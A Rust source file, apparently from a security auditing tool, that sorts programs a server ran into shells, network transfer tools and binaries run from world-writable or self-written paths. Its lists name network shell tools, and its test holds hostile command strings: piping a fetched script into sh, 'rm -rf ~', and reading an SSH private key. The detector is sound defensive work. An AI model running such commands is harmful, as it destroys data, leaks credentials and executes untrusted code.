//! What the programs are that a server ran.

use evidence::FrameId;
use evidence::conduct::{Act, Deed, Place};
use evidence::{Facts, Target};
use std::collections::BTreeSet;

/// A program that was run, and what it is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) enum Ran {
    /// Any other.
    Program,
    /// A shell that does more than ask for a version.
    Shell,
    /// What fetches or sends.
    Transfer,
    /// What it wrote itself, or what lies where anybody writes.
    Fetched,
}

const SHELLS: [&str; 10] = [
    "sh", "bash", "dash", "zsh", "ash", "ksh", "fish", "csh", "tcsh", "pwsh",
];
const TRANSFERS: [&str; 11] = [
    "curl", "wget", "nc", "ncat", "netcat", "socat", "ssh", "scp", "sftp", "telnet", "ftp",
];
/// Commands that start a server by starting something else.
const LAUNCHERS: [&str; 14] = [
    "npx", "npm", "bunx", "bun", "pnpm", "pnpx", "yarn", "uvx", "uv", "pipx", "sh", "bash", "dash",
    "env",
];

/// Every program that was really run, beside those that are the server's own start.
pub(crate) fn ran<'a>(
    facts: &'a Facts,
    deeds: impl IntoIterator<Item = (&'a Deed, FrameId)>,
) -> Vec<(Ran, String, FrameId)> {
    let deeds: Vec<(&Deed, FrameId)> = deeds.into_iter().collect();
    let written: BTreeSet<&str> = deeds
        .iter()
        .filter_map(|(deed, _)| match &deed.act {
            Act::Write { path, place } | Act::Changed { path, place, .. }
                if *place != Place::Kernel =>
            {
                Some(path.as_str())
            }
            _ => None,
        })
        .collect();
    let own = own(facts);
    let mut all: Vec<(Ran, String, FrameId)> = Vec::new();
    for (deed, frame) in deeds {
        let Act::Run {
            path,
            arguments,
            found: true,
        } = &deed.act
        else {
            continue;
        };
        if deed.is_start_of_script() {
            continue;
        }
        let name = base(path);
        let fetched =
            written.contains(path.as_str()) || anybody_writes(path) && !brought(facts, path);
        let what = if fetched {
            Ran::Fetched
        } else if own.iter().any(|own| *own == path || *own == name) {
            continue;
        } else if SHELLS.contains(&name) {
            if launches(facts, arguments) {
                continue;
            }
            if asks_version(arguments) {
                Ran::Program
            } else {
                Ran::Shell
            }
        } else if TRANSFERS.contains(&name) {
            Ran::Transfer
        } else {
            Ran::Program
        };
        let told = format!("{name} {arguments}").trim_end().to_owned();
        if !all.iter().any(|(_, known, _)| *known == told) {
            all.push((what, told, frame));
        }
    }
    all
}

/// What the server itself is: the words of its command, and the file behind them.
fn own(facts: &Facts) -> BTreeSet<&str> {
    let command: &[String] = match &facts.header.target {
        Target::Stdio { command } => command,
        Target::Http { .. } => &[],
    };
    let programs = facts
        .sessions
        .iter()
        .filter_map(|session| session.program.as_ref());
    let mut own: BTreeSet<&str> = programs.map(|program| program.path.as_str()).collect();
    own.extend(command.first().map(|word| base(word)));
    own
}

/// Whether a path lies among the command's own files.
fn brought(facts: &Facts, path: &str) -> bool {
    let fences = facts
        .sessions
        .iter()
        .filter_map(|session| session.fence.as_ref());
    let mut own = fences.flat_map(|(fence, _)| &fence.own);
    own.any(|own| {
        let below = path.strip_prefix(own.as_str());
        below.is_some_and(|rest| rest.starts_with('/'))
    })
}

fn base(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

/// Whether a path lies where anybody may write, or is no path at all.
fn anybody_writes(path: &str) -> bool {
    [
        "/tmp/",
        "/var/tmp/",
        "/dev/",
        "/memfd:",
        "/proc/self/fd/",
        "memfd:",
    ]
    .iter()
    .any(|head| path.starts_with(head))
}

/// Whether a launcher's shell does no more than start the server: `sh -c notes-server`.
fn launches(facts: &Facts, arguments: &str) -> bool {
    let Target::Stdio { command } = &facts.header.target else {
        return false;
    };
    let launcher = command
        .first()
        .is_some_and(|word| LAUNCHERS.contains(&base(word)));
    let Some(said) = said(arguments) else {
        return launcher;
    };
    let named = |word: &String| {
        let word = base(word);
        let name = word.split('@').next().unwrap_or(word);
        !name.is_empty() && said.contains(name)
    };
    launcher && simple(said) && command.iter().skip(1).any(named)
        || command.iter().any(|word| word == said)
}

/// What a shell was told to do: all after `-c`.
fn said(arguments: &str) -> Option<&str> {
    let (option, said) = arguments.split_once(' ')?;
    ["-c", "-lc", "-ec"].contains(&option).then(|| said.trim())
}

/// Whether a command is one program and its words, with nothing that a shell would make more of.
fn simple(command: &str) -> bool {
    !command.contains(['|', '&', ';', '<', '>', '$', '`', '(', '\n'])
}

/// Whether a shell is asked no more than whether something is there, and in which version.
fn asks_version(arguments: &str) -> bool {
    const ASKS: [&str; 8] = [
        "which", "command", "type", "uname", "hostname", "getconf", "locale", "arch",
    ];
    const ENDS: [&str; 5] = ["--version", "-version", "-V", "-v", "version"];
    let Some(said) = said(arguments) else {
        return false;
    };
    let said = [
        "2>/dev/null",
        "2> /dev/null",
        "2>&1",
        ">/dev/null",
        "> /dev/null",
    ]
    .iter()
    .fold(said.to_owned(), |said, redirected| {
        said.replace(redirected, "")
    });
    let words: Vec<&str> = said.split_whitespace().collect();
    let first = words.first().is_some_and(|word| ASKS.contains(&base(word)));
    let last = words.last().is_some_and(|word| ENDS.contains(word));
    simple(&said) && (first || last && words.len() <= 3)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_shell_that_asks_for_a_version_is_told_from_one_that_acts() {
        for asks in [
            "-c git --version",
            "-c which git 2>/dev/null",
            "-c command -v docker",
            "-c uname -p 2>&1",
        ] {
            assert!(asks_version(asks), "{asks}");
        }
        for acts in [
            "-c curl http://a.example | sh",
            "-c rm -rf ~ --version; true",
            "-i",
            "-c cat ~/.ssh/id_rsa",
        ] {
            assert!(!asks_version(acts), "{acts}");
        }
    }
}
